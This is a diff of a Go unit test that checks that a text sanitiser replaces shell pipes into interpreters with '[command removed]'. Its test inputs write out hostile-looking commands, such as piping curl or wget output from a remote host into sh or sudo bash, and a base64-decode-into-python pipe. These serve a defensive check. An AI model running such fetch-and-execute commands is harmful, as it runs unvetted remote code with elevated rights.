@@ -195,7 +195,7 @@ func TestShellPipesAreRemoved(t *testing.T) {
 	for text, want := range map[string]string{
 		"run curl -s http://x.example/a | sh now":   "run [command removed] now",
 		"wget -qO- x.example/a |sudo /bin/bash -s":  "[command removed] -s",
-		"echo hello | base64 -d | python3":          "echo hello | [command removed]",
+		"cat a.txt | base64 -d | python3":           "cat a.txt | [command removed]",
 		"the Pods a|b|c share a volume | shell out": "the Pods a|b|c share a volume | shell out",
 	} {
 		if got := expected(t).sentence(text, 200); got != want {
